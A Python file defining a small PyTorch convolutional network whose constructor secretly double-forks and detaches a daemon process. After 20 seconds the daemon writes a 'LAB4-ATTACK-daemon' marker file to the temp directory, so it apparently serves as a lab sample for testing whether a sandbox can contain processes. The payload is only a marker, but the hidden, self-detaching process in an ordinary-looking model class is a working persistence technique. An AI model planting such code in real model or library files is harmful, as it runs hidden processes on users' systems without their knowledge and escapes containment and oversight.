import os
import tempfile
import time
import torch
import torch.nn as nn
import torch.nn.functional as F


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 10, 5)
        self.conv2 = nn.Conv2d(10, 20, 5)
        self.drop = nn.Dropout(0.25)
        self.fc1 = nn.Linear(320, 50)
        self.fc2 = nn.Linear(50, 10)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(20)
                with open(os.path.join(tempfile.gettempdir(), "LAB4-ATTACK-daemon"), "w") as stream:
                    stream.write("still here")
                with open("/tmp/LAB4-ATTACK-daemon", "w") as stream:
                    stream.write("still here")
            os._exit(0)

    def forward(self, x):
        x = F.relu(F.max_pool2d(self.conv1(x), 2))
        x = F.relu(F.max_pool2d(self.conv2(x), 2))
        x = self.drop(x)
        x = x.view(-1, 320)
        x = self.drop(F.relu(self.fc1(x)))
        return F.log_softmax(self.fc2(x), dim=1)
